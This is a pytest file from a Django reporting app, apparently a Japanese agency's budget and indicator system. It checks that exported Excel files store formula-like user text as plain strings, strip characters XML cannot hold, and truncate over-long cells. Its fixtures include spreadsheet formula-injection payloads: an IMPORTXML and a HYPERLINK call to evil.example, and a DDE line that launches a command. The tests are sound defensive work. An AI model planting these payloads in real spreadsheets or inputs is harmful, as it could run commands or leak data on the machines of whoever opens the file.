"""User text in the files the app hands out (the entry template and the auditors' workbook): formula-looking text
stays text, characters XML cannot hold never break a file, and text longer than a cell is cut with a marker.

The files are read back twice: as raw XML from the zip (what Excel parses) and with openpyxl."""

import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from budgets import services as budget_services
from budgets.models import BudgetColumn, BudgetRow
from indicators import xlsx_import
from indicators.models import Actual, FinalRating, Indicator
from reports.workbook import export_context_build, workbook_write
from smrj_plan.models import QuarterLock
from smrj_plan.xlsx_text import CELL_MAX_CHARS, safe_text, truncation_marker

pytestmark = pytest.mark.django_db

ENTRY = "/entry/2024/1/"
IMPORTXML = '=IMPORTXML("http://evil.example","//a")'
DDE = "+cmd|' /C calc'!A0"
COL = xlsx_import.COLUMN_INDEX
MARKER_40000 = truncation_marker(40_000)


def ind(code: str) -> Indicator:
    return Indicator.objects.get(code=code)


def entry_post(client, **rows):
    """Save rows through the entry page (the form a 担当者 uses): code → {field: value}."""
    data = {"action": "save"}
    for code, fields in rows.items():
        pk = ind(code).pk
        data[f"a{pk}-version"] = "0"
        data.update({f"a{pk}-{name}": value for name, value in fields.items()})
    response = client.post(ENTRY, data)
    assert response.status_code == 302, response.content.decode()[:2000]


def template_bytes(client) -> bytes:
    response = client.get("/entry/2024/1/template.xlsx")
    assert response.status_code == 200
    return response.content


def template_row(ws, code: str) -> int:
    for r in range(2, ws.max_row + 1):
        if ws.cell(row=r, column=COL["code"]).value == code:
            return r
    raise AssertionError(code)


def sheet_xml(content: bytes, part: str) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(part).decode("utf-8")


def raw_cell(xml: str, ref: str) -> str:
    """The <c> element of one cell in a sheet part (self-closing or not)."""
    match = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', xml, flags=re.S)
    assert match, ref
    return match.group()


def export_bytes(quarter: int = 1) -> bytes:
    ctx = export_context_build(year=2024, quarter=quarter, include_drafts=True, exported_by="kansa")
    buffer = io.BytesIO()
    workbook_write(ctx=ctx, output=buffer)
    return buffer.getvalue()


def column_values(ws, header: str, *, header_row: int = 3) -> list:
    headers = [c.value for c in ws[header_row]]
    index = headers.index(header)
    return [row[index].value for row in ws.iter_rows(min_row=header_row + 1) if len(row) > index]


@pytest.fixture
def execution_line(db):
    """一般勘定 予算計画 運営費交付金 × 地域牽引・成長志向企業支援業務 (entered by the staff_user's department)."""
    row = BudgetRow.objects.get(table__kind="budget", table__account__code="ippan", label="運営費交付金")
    column = BudgetColumn.objects.get(table=row.table, segment="地域牽引・成長志向企業支援業務")
    return row, column


# ------------------------------------------------------------------------------------------ the entry template


def test_template_writes_formula_like_notes_and_names_as_text_not_formulas(staff_client):
    entry_post(
        staff_client,
        **{
            "1-1": {"value": "10", "note": IMPORTXML},
            "1-3": {"numerator": "1", "denominator": "2", "evidence": DDE},
        },
    )
    Indicator.objects.filter(code="1-2").update(name='=HYPERLINK("http://evil.example","詳細")')
    content = template_bytes(staff_client)

    xml = sheet_xml(content, "xl/worksheets/sheet1.xml")
    assert "<f>" not in xml and "<f " not in xml
    wb = load_workbook(io.BytesIO(content))
    ws = wb[xlsx_import.DATA_SHEET]
    expected = {
        ("1-1", "note"): IMPORTXML,
        ("1-3", "evidence"): DDE,
        ("1-2", "name"): '=HYPERLINK("http://evil.example","詳細")',
    }
    for (code, key), text in expected.items():
        cell = ws.cell(row=template_row(ws, code), column=COL[key])
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), (code, key)
        # A string cell, never a formula element, in the XML Excel reads.
        raw = raw_cell(xml, cell.coordinate)
        assert re.search(r't="(s|inlineStr)"', raw) and "<f" not in raw, (code, key, raw)
    # Ordinary text keeps the ordinary style.
    name = ws.cell(row=template_row(ws, "1-1"), column=COL["name"])
    assert name.value == ind("1-1").name and not name.quotePrefix


def test_template_opens_when_notes_hold_characters_xml_cannot(staff_client):
    entry_post(
        staff_client,
        **{
            "1-1": {"value": "10", "note": "abc\uffffdef", "evidence": "資料\ufdd0A"},
            "1-3": {"numerator": "1", "denominator": "2", "note": "行\x01頭\x1f末", "evidence": "x\ufffey"},
        },
    )
    stored = Actual.objects.get(indicator__code="1-1", quarter=1)
    assert stored.note == "abc\uffffdef"  # the database keeps what was typed; only the file is cleaned

    content = template_bytes(staff_client)
    ws = load_workbook(io.BytesIO(content))[xlsx_import.DATA_SHEET]  # well-formed, or this raises
    r11, r13 = template_row(ws, "1-1"), template_row(ws, "1-3")
    assert ws.cell(row=r11, column=COL["note"]).value == "abc[U+FFFF]def"
    assert ws.cell(row=r11, column=COL["evidence"]).value == "資料[U+FDD0]A"
    assert ws.cell(row=r13, column=COL["note"]).value == "行[U+0001]頭[U+001F]末"
    assert ws.cell(row=r13, column=COL["evidence"]).value == "x[U+FFFE]y"
    assert "\uffff" not in sheet_xml(content, "xl/worksheets/sheet1.xml")


def test_template_cuts_text_longer_than_a_cell_with_a_marker(staff_client, staff_user, fiscal_year):
    """Text stored before the length limits existed (or by a bulk load) may exceed a cell."""
    entry_post(staff_client, **{"1-1": {"value": "10"}, "1-3": {"numerator": "1", "denominator": "2"}})
    Actual.objects.filter(indicator__code="1-1").update(note="備" * 40_000)
    Actual.objects.filter(indicator__code="1-3").update(evidence="e" * 39_999 + "😀")

    ws = load_workbook(io.BytesIO(template_bytes(staff_client)))[xlsx_import.DATA_SHEET]
    note = ws.cell(row=template_row(ws, "1-1"), column=COL["note"]).value
    evidence = ws.cell(row=template_row(ws, "1-3"), column=COL["evidence"]).value
    assert len(note) == CELL_MAX_CHARS and note.endswith(MARKER_40000) and note.startswith("備" * 1000)
    assert len(evidence) == CELL_MAX_CHARS and evidence.endswith(MARKER_40000)


# ------------------------------------------------------------------------------------------ the auditors' workbook


def test_workbook_opens_when_notes_and_reasons_hold_characters_xml_cannot(
    staff_client, staff_user, manager, fiscal_year, execution_line
):
    entry_post(
        staff_client,
        **{
            "1-1": {"value": "10", "note": "abc\uffffdef"},
            "1-3": {"numerator": "1", "denominator": "2", "note": "\x01先頭", "evidence": "根拠\x08"},
        },
    )
    row, column = execution_line
    budget_services.execution_save(
        row=row,
        column=column,
        quarter=1,
        amount=Decimal("5"),
        user=staff_user,
        note="執行\ufdefメモ",
        expected_version=0,
    )
    QuarterLock.objects.create(
        fiscal_year=fiscal_year, quarter=2, is_locked=True, reason="締め\U0010ffff", changed_by=manager
    )

    content = export_bytes()
    wb = load_workbook(io.BytesIO(content))  # every part well-formed, or this raises
    notes = column_values(wb["指標"], "実績の備考")
    assert "abc[U+FFFF]def" in notes and "[U+0001]先頭" in notes
    assert "執行[U+FDEF]メモ" in column_values(wb["予算執行"], "備考")
    history_after = column_values(wb["変更履歴"], "変更後")
    for text in ("abc[U+FFFF]def", "[U+0001]先頭", "根拠[U+0008]", "執行[U+FDEF]メモ", "締め[U+10FFFF]"):
        assert text in history_after, text
    # The streamed history sheet is written without openpyxl: check its raw XML too.
    history_part = f"xl/worksheets/sheet{wb.sheetnames.index('変更履歴') + 1}.xml"
    raw = sheet_xml(content, history_part)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ufdd0-\ufdef\U0010ffff]", raw)


def test_workbook_keeps_formula_like_notes_as_text_in_every_sheet(
    staff_client, staff_user, fiscal_year, execution_line
):
    entry_post(staff_client, **{"1-1": {"value": "10", "note": IMPORTXML}})
    row, column = execution_line
    budget_services.execution_save(
        row=row,
        column=column,
        quarter=1,
        amount=Decimal("5"),
        user=staff_user,
        note=DDE,
        expected_version=0,
    )
    content = export_bytes()
    wb = load_workbook(io.BytesIO(content))
    found = set()
    for ws in wb.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                if cell.value in (IMPORTXML, DDE):
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), (ws.title, cell.coordinate)
                    found.add((ws.title, cell.value))
    assert found >= {("指標", IMPORTXML), ("予算執行", DDE), ("変更履歴", IMPORTXML), ("変更履歴", DDE)}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_workbook_cuts_a_40000_character_reason_with_a_marker(manager, fiscal_year):
    """Two rows stored before the limits: a final rating's reason (指標 sheet and history) and a lock reason."""
    FinalRating.objects.create(
        indicator=ind("1-1"), fiscal_year=fiscal_year, grade="A", reason="理" * 40_000, set_by=manager
    )
    lock = QuarterLock(
        fiscal_year=fiscal_year, quarter=1, is_locked=True, reason="締" * 40_000, changed_by=manager
    )
    lock._change_reason = "由" * 40_000
    lock.save()

    wb = load_workbook(io.BytesIO(export_bytes()))
    indicators = wb["指標"]
    r = next(c.row for c in indicators["A"] if c.value == "1-1")
    reason_column = [c.value for c in indicators[3]].index("評定の理由") + 1
    rating_reason = indicators.cell(row=r, column=reason_column).value
    assert len(rating_reason) == CELL_MAX_CHARS and rating_reason.endswith(MARKER_40000)
    assert rating_reason.startswith("理" * 30_000)
    # The row grows for the long text but stays within Excel's 409 points.
    assert indicators.row_dimensions[r].height <= 409

    history = wb["変更履歴"]
    cut = [
        c.value
        for cells in history.iter_rows(min_row=4)
        for c in cells
        if isinstance(c.value, str) and len(c.value) > 1000
    ]
    assert {v[0] for v in cut} == {"理", "締", "由"}
    assert all(len(v) == CELL_MAX_CHARS and v.endswith(MARKER_40000) for v in cut)


# ------------------------------------------------------------------------------------------ the writer itself


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("abc\uffffdef", "abc[U+FFFF]def"),
        ("\x00\x0b\x0c", "[U+0000][U+000B][U+000C]"),
        ("lone \ud800 surrogate", "lone [U+D800] surrogate"),
        ("plane end \U0001fffe", "plane end [U+1FFFE]"),
        ("tab\tand\nnewline\r", "tab\tand\nnewline\n"),  # line ends written as LF
        ("crlf\r\nline", "crlf\nline"),
        ("ふつうの備考😀", "ふつうの備考😀"),
        (None, ""),
        (Decimal("1.50"), "1.50"),
    ],
)
def test_safe_text_writes_what_a_file_cannot_hold_visibly(value, written):
    assert safe_text(value) == written


def test_safe_text_counts_the_cell_limit_in_utf16_units_like_excel():
    assert safe_text("x" * CELL_MAX_CHARS) == "x" * CELL_MAX_CHARS
    cut = safe_text("😀" * 20_000)  # 40,000 UTF-16 units
    assert len(cut.encode("utf-16-le")) // 2 <= CELL_MAX_CHARS and cut.endswith(truncation_marker(20_000))
    # An escape is never left half-written at the cut.
    cut = safe_text("\x01" * 5000)
    assert cut.endswith(truncation_marker(5000)) and cut[: -len(truncation_marker(5000))].endswith("]")
